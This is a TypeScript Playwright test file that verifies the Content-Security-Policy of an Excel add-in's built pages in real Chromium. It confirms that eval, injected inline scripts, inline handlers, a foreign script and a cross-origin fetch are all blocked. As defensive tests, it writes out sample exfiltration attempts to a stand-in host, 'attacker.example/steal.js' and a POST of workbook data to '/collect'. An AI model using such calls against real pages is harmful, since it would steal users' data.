/**
 * The Content-Security-Policy of the built pages (dist/preview.html and dist/taskpane.html) is
 * enforced by a real Chromium, not only written: in each page, eval and new Function throw,
 * an injected inline <script> (or inline event handler, or script from another host) does not
 * run, a fetch to another origin is refused before it reaches the network, and each of these
 * fires a `securitypolicyviolation` event naming the directive. Loading the pages themselves
 * violates nothing. (That no request leaves 127.0.0.1 during a whole pane session is asserted
 * by preview.test.ts and taskpane-office-js.test.ts.)
 */
import type { Page } from 'playwright-core';
import { serveOfficeJs, startSession, type Session } from './serve';

const ELSEWHERE = 'https://attacker.example';

interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    perfscoreViolations?: Violation[];
    perfscoreInjectedRan?: string[];
  }
}

let session: Session;

beforeAll(async () => {
  session = await startSession('preview.html', 'taskpane.html');
  await serveOfficeJs(session.browser.context);
  // Every violation the page reports, from the very start of each document.
  await session.browser.context.addInitScript(() => {
    window.perfscoreViolations = [];
    window.perfscoreInjectedRan = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.perfscoreViolations!.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
      });
    });
  });
});

afterAll(async () => {
  await session?.close();
});

/** The violations reported so far, once `count` of them have arrived (events are async). */
async function violations(page: Page, count: number): Promise<Violation[]> {
  const deadline = Date.now() + 10000;
  let seen = await page.evaluate(() => window.perfscoreViolations ?? []);
  while (seen.length < count && Date.now() < deadline) {
    await page.waitForTimeout(50);
    seen = await page.evaluate(() => window.perfscoreViolations ?? []);
  }
  return seen;
}

/**
 * Runs eval('1') or new Function('return 1')() in a task of the page's own, as page code would:
 * the DevTools call behind page.evaluate may itself evaluate strings (its
 * allowUnsafeEvalBlockedByCSP), a timer callback of the page may not. Resolves to "ran: 1" or
 * the name of the error thrown.
 */
function inPageTask(page: Page, how: 'eval' | 'new Function'): Promise<string> {
  return page.evaluate(
    (kind) =>
      new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            const value = kind === 'eval' ? (0, eval)('1') : new Function('return 1')();
            resolve(`ran: ${String(value)}`);
          } catch (error) {
            resolve((error as Error).name);
          }
        }, 0),
      ),
    how,
  );
}

async function clearViolations(page: Page): Promise<void> {
  await page.evaluate(() => (window.perfscoreViolations = []));
}

const PAGES: [string, string][] = [
  ['preview.html', '重新计算'],
  ['taskpane.html', '请在 Excel 中使用绩效自评助手'],
];

describe.each(PAGES)('dist/%s under its Content-Security-Policy', (name, ready) => {
  let page: Page;
  const errors: string[] = [];

  beforeAll(async () => {
    page = await session.browser.context.newPage();
    page.on('pageerror', (error) => errors.push(error.message));
    await page.goto(`${session.server.origin}/${name}`);
    await page.getByText(ready, { exact: true }).first().waitFor({ timeout: 30000 });
  });

  afterAll(async () => {
    await page?.close();
  });

  it('loads and starts without a single violation or script error', async () => {
    expect(await violations(page, 0)).toEqual([]);
    expect(errors).toEqual([]);
  });

  it('eval("1") throws and is reported', async () => {
    await clearViolations(page);
    expect(await inPageTask(page, 'eval')).toBe('EvalError');
    expect(await violations(page, 1)).toEqual([{ directive: 'script-src', blocked: 'eval' }]);
  });

  it('new Function throws and is reported', async () => {
    await clearViolations(page);
    expect(await inPageTask(page, 'new Function')).toBe('EvalError');
    expect(await violations(page, 1)).toEqual([{ directive: 'script-src', blocked: 'eval' }]);
  });

  it('an injected inline <script> does not run and is reported', async () => {
    await clearViolations(page);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.perfscoreInjectedRan.push("inline script")';
      document.body.appendChild(script);
    });
    expect(await violations(page, 1)).toEqual([
      { directive: 'script-src-elem', blocked: 'inline' },
    ]);
    expect(await page.evaluate(() => window.perfscoreInjectedRan)).toEqual([]);
  });

  it('injected markup with an inline event handler does not run it and is reported', async () => {
    await clearViolations(page);
    await page.evaluate(() => {
      const box = document.createElement('div');
      // An image of our own origin that fails to load: only the handler itself is refused.
      box.innerHTML =
        '<img src="/no-such-image.png" onerror="window.perfscoreInjectedRan.push(\'onerror\')">';
      document.body.appendChild(box);
    });
    expect(await violations(page, 1)).toEqual([
      { directive: 'script-src-attr', blocked: 'inline' },
    ]);
    expect(await page.evaluate(() => window.perfscoreInjectedRan)).toEqual([]);
  });

  it('an injected <script src> from another host is not loaded and is reported', async () => {
    await clearViolations(page);
    const outcome = await page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          const script = document.createElement('script');
          script.src = src;
          script.onload = () => resolve('loaded');
          script.onerror = () => resolve('refused');
          document.body.appendChild(script);
        }),
      `${ELSEWHERE}/steal.js`,
    );
    expect(outcome).toBe('refused');
    expect(await violations(page, 1)).toEqual([
      { directive: 'script-src-elem', blocked: `${ELSEWHERE}/steal.js` },
    ]);
    // Refused by the policy, before any request: the network never saw it.
    expect(session.browser.blocked).toEqual([]);
  });

  it('a fetch to another origin is refused before it reaches the network and is reported', async () => {
    await clearViolations(page);
    const outcome = await page.evaluate(
      (url) =>
        fetch(url, { method: 'POST', body: 'workbook data' }).then(
          (response) => `answered ${response.status}`,
          (error: Error) => error.name,
        ),
      `${ELSEWHERE}/collect`,
    );
    expect(outcome).toBe('TypeError');
    expect(await violations(page, 1)).toEqual([
      { directive: 'connect-src', blocked: `${ELSEWHERE}/collect` },
    ]);
    expect(session.browser.blocked).toEqual([]);
  });
});
